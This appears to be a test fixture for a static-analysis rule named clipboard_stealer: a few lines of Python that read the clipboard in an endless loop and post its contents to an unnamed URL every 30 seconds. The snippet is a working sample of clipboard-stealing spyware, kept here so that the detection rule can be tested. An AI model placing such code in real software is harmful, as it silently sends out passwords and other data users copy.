import pyperclip, time, requests
# ruleid: clipboard_stealer
while True:
    requests.post(URL, data=pyperclip.paste())
    time.sleep(30)
